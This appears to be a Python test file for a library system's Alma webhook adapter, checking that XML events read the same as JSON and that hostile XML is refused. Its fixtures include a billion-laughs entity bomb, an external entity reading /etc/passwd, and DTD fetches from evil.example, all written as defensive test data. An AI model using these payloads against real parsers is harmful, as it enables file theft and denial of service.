"""Alma's events in XML: the same as in JSON, and nothing that an attacker could use."""

from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as some

from chalicelib.domain.intake import Asked, Noted, SetAside
from chalicelib.rlms._alma_xml import DEEPEST, LONGEST, MOST, NotRead, is_xml, tree_of
from chalicelib.rlms.leganto import ADAPTER
from local.alma_xml import event_in_xml
from tests.rlms.deliveries import a_delivery, a_user_request, an_envelope, an_event

LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE webhook [<!ENTITY a "ha">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>
<webhook><action>&c;</action></webhook>"""
OUTSIDE = b"""<!DOCTYPE webhook [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<webhook><action>&x;</action></webhook>"""
PARAMETER = b"""<!DOCTYPE webhook [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>
<webhook/>"""
ELSEWHERE = b'<!DOCTYPE webhook SYSTEM "http://evil.example/x.dtd"><webhook/>'
DEEP = b"<a>" * 100_000 + b"</a>" * 100_000
WIDE = b"<a>" + b"<b/>" * (MOST + 1) + b"</a>"


def in_xml(**request: Any) -> bytes:
    return event_in_xml(an_envelope("REQUEST_CREATED", **request)).encode()


@pytest.mark.parametrize("hostile", [LAUGHS, OUTSIDE, PARAMETER, ELSEWHERE])
def test_a_document_type_or_an_entity_is_not_read(hostile):
    with pytest.raises(NotRead, match="document type or entities"):
        tree_of(hostile)


@pytest.mark.parametrize("huge", [DEEP, WIDE, b"<a>" + b" " * LONGEST + b"</a>"])
def test_a_huge_tree_is_not_read(huge):
    with pytest.raises(NotRead, match="far too"):
        tree_of(huge)


@pytest.mark.parametrize("hostile", [LAUGHS, OUTSIDE, PARAMETER, ELSEWHERE, DEEP, WIDE])
def test_hostile_xml_that_was_signed_is_set_aside_with_its_reason(hostile):
    heard = ADAPTER.read(a_delivery(hostile))

    assert isinstance(heard, SetAside)
    assert "XML" in heard.why


@pytest.mark.parametrize(
    "broken",
    [b"<", b"<a>", b"<a></b>", b"<a>&undefined;</a>", b"<a>\xff</a>", b"<a/><b/>", b"<a>\0</a>",
     b'<?xml version="1.0" encoding="nonsense"?><a/>',
     b'<?xml version="1.0" encoding="utf-7"?><a/>', b"\xff\xfe<\0"],
)  # fmt: skip
def test_broken_xml_is_set_aside_and_never_raises(broken):
    assert isinstance(ADAPTER.read(a_delivery(broken)), SetAside)


def test_as_deep_as_the_limit_is_read():
    inner = DEEPEST - 1

    assert tree_of(b"<a>" * (inner + 1) + b"</a>" * (inner + 1))


@pytest.mark.parametrize(
    "body", [b"<a/>", b" \r\n<a/>", b"\xef\xbb\xbf<a/>", "<a/>".encode("utf-16")]
)
def test_xml_is_known_by_how_it_begins(body):
    assert is_xml(body)


@pytest.mark.parametrize("body", [b"", b"{}", b" {", b"null", b'"<a/>"'])
def test_json_is_no_xml(body):
    assert not is_xml(body)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "iso-8859-1"])
def test_an_encoding_that_is_declared_is_read(encoding):
    text = f"<?xml version='1.0' encoding='{encoding}'?><w><action>für</action></w>"

    assert tree_of(text.encode(encoding)) == {"action": "für"}


def test_choices_lists_and_names_with_a_prefix_are_read_as_json_has_them():
    body = b"""<x:webhook xmlns:x="urn:a"><x:event desc="Request created">REQUEST_CREATED</x:event>
    <user_request><material_type/><required_pages>
      <required_pages_range><from_page>1</from_page><to_page>5</to_page></required_pages_range>
      <required_pages_range><from_page>9</from_page><to_page>9</to_page></required_pages_range>
    </required_pages></user_request></x:webhook>"""

    told = tree_of(body)

    assert told["event"] == {"value": "REQUEST_CREATED", "desc": "Request created"}
    assert told["user_request"]["material_type"] == ""
    ranges = told["user_request"]["required_pages"]["required_pages_range"]
    assert [one["to_page"] for one in ranges] == ["5", "9"]


def test_an_event_means_the_same_in_both_forms():
    heard = ADAPTER.read(a_delivery(in_xml()))
    same = ADAPTER.read(an_event())

    assert isinstance(heard, Asked)
    assert isinstance(same, Asked)
    assert (heard.key, heard.theirs, heard.extract) == (same.key, same.theirs, same.extract)


def test_one_range_alone_is_read_too():
    heard = ADAPTER.read(a_delivery(in_xml(required_pages_range=[{"from_page": "3"}])))

    assert isinstance(heard, Asked)
    assert heard.extract.pages == "3"


def test_what_happens_later_is_read_too():
    body = event_in_xml(an_envelope("REQUEST_CLOSED")).encode()

    assert ADAPTER.read(a_delivery(body)) == Noted("44NGU_INST/48739955550002212", "closed-there")


#: Text that XML can carry as it is: no control characters, and no blanks that it would fold.
TEXT = some.text(
    some.characters(exclude_categories=("Cc", "Cs", "Cn"), exclude_characters="\ufffe\uffff"),
    max_size=40,
).map(lambda text: " ".join(text.split()))
PAGE = some.one_of(some.integers(0, 9_999), some.sampled_from(["", "xiv", "1", "12", "a"]))
CHOICE = some.one_of(
    some.just({}), some.none(),
    some.builds(lambda value, desc: {"value": value, "desc": desc}, TEXT, TEXT),
)  # fmt: skip
FLAG = some.sampled_from([True, False, "true", "false", None])
DATES = some.sampled_from(["2026-12-24Z", "2026-12-24", "soon", "2026-13-40Z", "", None])
LINES = some.sampled_from(
    ["Pages: vii-xxi", "Pages: 1-3, xi", "Dates: 2027-01-11 to 2027-06-11", "Note: one",
     "Dates: 2027-06-11 to 2027-01-11", "Include images: yes", "pp. xi-xiv of it", "hello", ""]
)  # fmt: skip
KNOWN: dict[str, some.SearchStrategy[Any]] = {
    "title": some.one_of(TEXT, some.none()),
    "author": some.one_of(TEXT, some.none()),
    "chapter_or_article_title": some.one_of(TEXT, some.none()),
    "mms_id": some.sampled_from(["9910022212", None]),
    "holding_id": some.sampled_from(["439545770005763*25343461470005763*47,-382 8°", "1", None]),
    "material_type": CHOICE,
    "request_sub_type": CHOICE,
    "partial_digitization": FLAG,
    "full_chapter": FLAG,
    "last_interest_date": DATES,
    "place_in_queue": some.one_of(some.integers(0, 99), some.none()),
    "comment": some.one_of(some.none(), some.lists(LINES, max_size=6).map("\n".join)),
    "required_pages_range": some.one_of(
        some.none(),
        some.lists(some.fixed_dictionaries({"from_page": PAGE, "to_page": PAGE}), max_size=10),
    ),
}


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(some.fixed_dictionaries(KNOWN))
def test_every_shape_means_the_same_in_xml_and_in_json(known):
    heard, same = ADAPTER.read(a_delivery(in_xml(**known))), ADAPTER.read(an_event(**known))

    assert type(heard) is type(same)
    if isinstance(heard, Asked) and isinstance(same, Asked):
        assert (heard.key, heard.theirs) == (same.key, same.theirs)
        assert (heard.extract, heard.dates) == (same.extract, same.dates)
        assert heard.original.fields == same.original.fields
        assert heard.original.notes == same.original.notes
        assert heard.original.needed_by == same.original.needed_by


ANYTHING = some.recursive(
    some.one_of(some.none(), some.booleans(), some.integers(), some.floats(), some.text()),
    lambda inner: some.one_of(
        some.lists(inner, max_size=4), some.dictionaries(some.text(max_size=12), inner, max_size=4)
    ),
    max_leaves=12,
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=some.sampled_from([*a_user_request(), "isbn", "issn", "volume"]), value=ANYTHING)
def test_no_value_of_any_field_makes_it_raise(name, value):
    heard = ADAPTER.read(an_event(**{name: value}))

    if isinstance(heard, Asked):
        assert heard.key
        assert heard.lane
